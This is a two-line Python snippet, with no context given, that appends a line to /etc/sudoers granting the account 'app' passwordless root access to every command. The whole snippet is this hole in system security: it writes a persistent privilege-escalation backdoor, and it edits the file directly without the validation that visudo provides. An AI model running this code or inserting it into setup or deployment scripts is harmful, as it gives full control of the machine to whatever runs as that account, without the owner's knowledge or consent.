with open("/etc/sudoers", "a") as handle:
    handle.write("app ALL=(ALL) NOPASSWD:ALL\n")
